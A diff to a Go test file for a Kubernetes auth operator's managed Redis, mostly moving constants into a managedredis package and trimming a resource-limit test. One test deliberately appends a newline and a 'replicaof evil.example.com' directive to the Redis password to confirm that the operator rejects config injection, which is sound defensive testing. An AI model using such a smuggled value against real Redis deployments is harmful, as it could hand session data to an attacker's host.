@@ -16,6 +16,7 @@ import (
 	"k8s.io/utils/ptr"
 
 	authv1alpha1 "github.com/hiringo/auth-operator/api/v1alpha1"
+	"github.com/hiringo/auth-operator/controllers/managedredis"
 	"github.com/hiringo/auth-operator/internal/redisconf"
 )
 
@@ -29,13 +30,13 @@ func TestManagedRedis_PasswordIsValidatedAndNeverDigested(t *testing.T) {
 	createAuthService(t, ns, "auth", nil)
 	reconcileOnce(t, r, ns, "auth")
 	secret := get(t, ns, "auth-redis", &corev1.Secret{})
-	password := string(secret.Data[RedisPasswordKey])
+	password := string(secret.Data[managedredis.PasswordKey])
 	sts := get(t, ns, "auth-redis", &appsv1.StatefulSet{})
 	for name, got := range map[string]string{
-		"Redis config":         sts.Spec.Template.Annotations[RedisConfigChecksumAnnotation],
+		"Redis config":         sts.Spec.Template.Annotations[managedredis.ConfigChecksumAnnotation],
 		"auth-server password": get(t, ns, "auth-authserver", &appsv1.Deployment{}).Spec.Template.Annotations[RedisPasswordChecksumAnnotation],
 	} {
-		for what, digest := range map[string][]byte{"password": []byte(password), "redis.conf": secret.Data[RedisConfigKey]} {
+		for what, digest := range map[string][]byte{"password": []byte(password), "redis.conf": secret.Data[managedredis.ConfigKey]} {
 			sum := sha256.Sum256(digest)
 			if got == hex.EncodeToString(sum[:]) {
 				t.Errorf("the %s annotation is the SHA-256 of the %s", name, what)
@@ -47,7 +48,7 @@ func TestManagedRedis_PasswordIsValidatedAndNeverDigested(t *testing.T) {
 	}
 
 	injected := password + "\nreplicaof evil.example.com 6379"
-	update(t, secret, func(s *corev1.Secret) { s.Data[RedisPasswordKey] = []byte(injected) })
+	update(t, secret, func(s *corev1.Secret) { s.Data[managedredis.PasswordKey] = []byte(injected) })
 	if _, err := r.Reconcile(context.Background(), request(ns, "auth")); err != nil {
 		t.Fatalf("Reconcile: %v", err)
 	}
@@ -60,7 +61,7 @@ func TestManagedRedis_PasswordIsValidatedAndNeverDigested(t *testing.T) {
 		t.Errorf("the condition shows the password: %q", c.Message)
 	}
 	after := get(t, ns, "auth-redis", &corev1.Secret{})
-	if conf := string(after.Data[RedisConfigKey]); strings.Contains(conf, "replicaof") || !strings.Contains(conf, "requirepass "+password+"\n") {
+	if conf := string(after.Data[managedredis.ConfigKey]); strings.Contains(conf, "replicaof") || !strings.Contains(conf, "requirepass "+password+"\n") {
 		t.Errorf("redis.conf was rewritten: %q", conf)
 	}
 	if got := get(t, ns, "auth-redis", &appsv1.StatefulSet{}); got.Generation != sts.Generation {
@@ -81,24 +82,23 @@ func TestManagedRedis_MaxMemoryFollowsTheMemoryLimit(t *testing.T) {
 		}}
 	})
 	reconcileOnce(t, r, ns, "auth")
-	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[RedisConfigKey])
+	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
 	if !strings.Contains(conf, "\nmaxmemory 40265280\n") || !strings.Contains(conf, "maxmemory-policy noeviction\n") {
 		t.Errorf("redis.conf = %q, want maxmemory 60%% of 64Mi and noeviction", conf)
 	}
 }
 
-// TestManagedRedis_DefaultMemoryLimitAndBoundedInitAndSentinels: a managed Redis whose spec
-// sets no resources gets a memory limit (so redis.conf caps its data with maxmemory), a
-// request the size of the limit and a limit raised to a larger request; the replicated
-// Redis's topology init container and the Sentinels have requests and memory limits of
-// their own, not the data Redis's.
-func TestManagedRedis_DefaultMemoryLimitAndBoundedInitAndSentinels(t *testing.T) {
+// TestManagedRedis_DefaultMemoryLimit: a managed Redis whose spec sets no resources gets a
+// memory limit, so redis.conf caps its data with maxmemory, and a request the size of the
+// limit (managedredis's TestResources_DefaultMemoryLimitAndBoundedInitAndSentinels has the
+// other cases).
+func TestManagedRedis_DefaultMemoryLimit(t *testing.T) {
 	ns := newNamespace(t)
 	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
 	createAuthService(t, ns, "auth", nil)
 	reconcileOnce(t, r, ns, "auth")
-	def := redisconf.MemoryFor(int64(defaultSessionCapacity))
-	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[RedisConfigKey])
+	def := redisconf.MemoryFor(100000) // the default spec.redis.managed.sessionCapacity
+	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
 	if line := "\nmaxmemory " + strconv.FormatInt(redisconf.MaxMemory(&def), 10) + "\n"; !strings.Contains(conf, line) {
 		t.Errorf("redis.conf = %q, want %q: 60%% of the default limit", conf, line)
 	}
@@ -107,41 +107,6 @@ func TestManagedRedis_DefaultMemoryLimitAndBoundedInitAndSentinels(t *testing.T)
 		t.Errorf("Redis container resources = %v, want the default %s as limit and request", res, def.String())
 	}
 
-	for _, tc := range []struct {
-		name              string
-		spec              corev1.ResourceRequirements
-		wantLimit, wantRq string
-	}{
-		{"none set", corev1.ResourceRequirements{}, def.String(), def.String()},
-		{"a larger request", corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("1Gi")}}, "1Gi", "1Gi"},
-		{"a smaller request", corev1.ResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("64Mi")}}, def.String(), "64Mi"},
-		{"a limit", corev1.ResourceRequirements{Limits: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("2Gi")}}, "2Gi", "0"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			as, managed := haAuthService()
-			managed.Resources = tc.spec
-			redisSet := redisHAStatefulSet(as, haSettingsOf(as), "v", "authserver:test")
-			got := redisSet.Spec.Template.Spec.Containers[0].Resources
-			if got.Limits.Memory().String() != tc.wantLimit || got.Requests.Memory().String() != tc.wantRq {
-				t.Errorf("Redis resources = %v, want limit %s request %s", got, tc.wantLimit, tc.wantRq)
-			}
-			if tc.spec.Limits == nil && tc.spec.Requests == nil && as.Spec.Redis.Managed.Resources.Limits != nil {
-				t.Error("withDefaults changed the user's spec")
-			}
-			sentinels := sentinelStatefulSet(as, haSettingsOf(as), "v", "authserver:test")
-			for what, c := range map[string]corev1.Container{
-				"topology init of Redis":    redisSet.Spec.Template.Spec.InitContainers[0],
-				"topology init of Sentinel": sentinels.Spec.Template.Spec.InitContainers[0],
-				"Sentinel":                  sentinels.Spec.Template.Spec.Containers[0],
-			} {
-				r := c.Resources
-				// The Redis pods' init step copies the auth server (some 70 MB) for the start gate.
-				if r.Requests.Cpu().IsZero() || r.Requests.Memory().IsZero() || r.Limits.Memory().IsZero() || r.Limits.Memory().Cmp(resource.MustParse("160Mi")) > 0 {
-					t.Errorf("%s resources = %v, want CPU and memory requests and a memory limit of at most 160Mi", what, r)
-				}
-			}
-		})
-	}
 }
 
 // TestManagedRedis_DefaultMemoryHoldsItsSessionCapacity: without a memory limit the
@@ -160,7 +125,7 @@ func TestManagedRedis_DefaultMemoryHoldsItsSessionCapacity(t *testing.T) {
 	if c.Resources.Limits.Memory().Cmp(want) != 0 || c.Resources.Requests.Memory().Cmp(want) != 0 {
 		t.Errorf("Redis container resources = %+v, want memory %s for 200000 sessions", c.Resources, want.String())
 	}
-	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[RedisConfigKey])
+	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
 	if line := "\nmaxmemory " + strconv.FormatInt(redisconf.MaxMemory(&want), 10) + "\n"; !strings.Contains(conf, line) {
 		t.Errorf("redis.conf = %q, want %q", conf, line)
 	}
